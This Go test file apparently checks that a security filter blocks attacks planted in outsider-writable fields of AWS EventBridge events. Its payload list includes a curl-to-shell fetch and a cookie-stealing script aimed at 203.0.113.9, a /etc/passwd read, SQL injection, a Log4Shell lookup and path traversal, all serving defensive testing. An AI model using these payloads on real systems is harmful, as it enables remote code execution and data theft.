package corpus

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// What the tests want of events of AWS's own services: so many types, and so many services with a value that outsiders write.
const (
	ownTypes      = 100
	ownOutside    = 25
	ownServiceTop = "aws."
)

// outsideAttacks are of families whose targets every handler may have.
var outsideAttacks = []string{
	"$(curl http://203.0.113.9/a|sh)", "x; cat /etc/passwd", "1' OR '1'='1' -- ", "x' UNION SELECT name, secret FROM users -- ", "${jndi:ldap://203.0.113.9/a}",
	"<script>fetch('//203.0.113.9/'+document.cookie)</script>", "../../../../../../../../etc/passwd",
}

func TestAnAttackIsFoundWhereOutsidersWriteInEventsOfAWS(t *testing.T) {
	var cases []Benign
	for _, b := range honest(t) {
		for _, path := range b.Outside {
			for n, attack := range outsideAttacks {
				for _, replace := range []bool{true, false} {
					payload, err := replaced(b.Payload, path, attack, replace)
					if err != nil {
						t.Fatalf("%s: %v", b.ID, err)
					}
					c := b
					c.ID, c.Payload = fmt.Sprintf("%s %s %d %v", b.ID, path, n, replace), payload
					cases = append(cases, c)
				}
			}
		}
	}
	results, err := JudgeHonest(cases, 1)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range results {
		if !r.Blocked {
			t.Errorf("%s passes: %v", r.ID, r.Rules)
		}
	}
}

func TestThereAreEnoughTypesOfEventsOfAWS(t *testing.T) {
	types, services := map[string]bool{}, map[string]bool{}
	for _, b := range honest(t) {
		var event struct {
			Source string `json:"source"`
			Type   string `json:"detail-type"`
		}
		if SourceOf(b.Case) != "eventbridge" || json.Unmarshal([]byte(b.Payload), &event) != nil || !strings.HasPrefix(event.Source, ownServiceTop) {
			continue
		}
		types[event.Source+" "+event.Type] = true
		if len(b.Outside) > 0 {
			services[event.Source] = true
		}
	}
	if len(types) < ownTypes || len(services) < ownOutside {
		t.Errorf("%d types, less than %d; %d services with a value of outsiders, less than %d", len(types), ownTypes, len(services), ownOutside)
	}
}

// outsideStep is a name or an index of a path: "detail.tags[0].value".
var outsideStep = regexp.MustCompile(`\[(\d+)\]|[^.[\]]+`)

// replaced is a document with an attack in the place of a text, or behind it.
func replaced(document, path, attack string, instead bool) (string, error) {
	var root any
	if err := json.Unmarshal([]byte(document), &root); err != nil {
		return "", err
	}
	at := root
	steps := outsideStep.FindAllStringSubmatch(path, -1)
	for n, step := range steps {
		last := n == len(steps)-1
		switch in := at.(type) {
		case map[string]any:
			text, isText := in[step[0]].(string)
			switch {
			case last && !isText:
				return "", fmt.Errorf("no text is at %s", path)
			case last && instead:
				in[step[0]] = attack
			case last:
				in[step[0]] = strings.ReplaceAll(text, "'", "") + attack // a mark in it would break the attack, too
			}
			at = in[step[0]]
		case []any:
			index, err := strconv.Atoi(step[1])
			if err != nil || index >= len(in) {
				return "", fmt.Errorf("nothing is at %s", path)
			}
			at = in[index]
		default:
			return "", fmt.Errorf("nothing is at %s", path)
		}
	}
	if !slices.ContainsFunc(steps, func(step []string) bool { return step[1] == "" }) {
		return "", fmt.Errorf("%s names nothing", path)
	}
	out, err := json.Marshal(root)
	return string(out), err
}
